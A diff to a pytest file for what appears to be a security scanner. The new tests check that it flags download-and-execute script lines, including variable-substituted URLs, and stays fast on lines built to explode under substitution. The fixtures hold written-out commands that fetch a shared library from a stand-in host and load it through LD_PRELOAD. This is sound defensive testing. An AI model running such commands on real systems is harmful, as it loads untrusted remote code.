@@ -6,6 +6,7 @@ Cards and scripts are written into tmp_path as text; every command in them is in
 from __future__ import annotations
 
 import json
+import time
 from pathlib import Path
 
 import pytest
@@ -342,3 +343,18 @@ def test_a_fetched_library_loaded_is_run(tmp_path: Path, command: str) -> None:
     script = f"curl -L https://example.invalid/libk.so -o /opt/libk.so\n{command}\n"
     (finding,) = _with(_vet(tmp_path, {"run.sh": script}), "download-and-execute")
     assert finding.evidence and finding.evidence.startswith("run.sh:2:")
+
+
+def test_a_variable_set_earlier_on_the_same_line_is_substituted(tmp_path: Path) -> None:
+    script = "H=example.invalid; wget https://$H/dl/libk.so -O /tmp/libk.so && LD_PRELOAD=/tmp/libk.so vllm\n"
+    (finding,) = _with(_vet(tmp_path, {"run.sh": script}), "download-and-execute")
+    assert "https://example.invalid/dl/libk.so" in finding.message
+
+
+def test_substituted_values_do_not_multiply_the_line(tmp_path: Path) -> None:
+    # Uncapped, this line grows to 16 million characters and the command rules take ~25 s on it.
+    script = "A=" + "x" * 2000 + "\n" + "$A" * 8000 + "\n"
+    started = time.monotonic()
+    report = _vet(tmp_path, {"run.sh": script})
+    assert time.monotonic() - started < 10
+    assert report.files[0].scanned and not report.findings
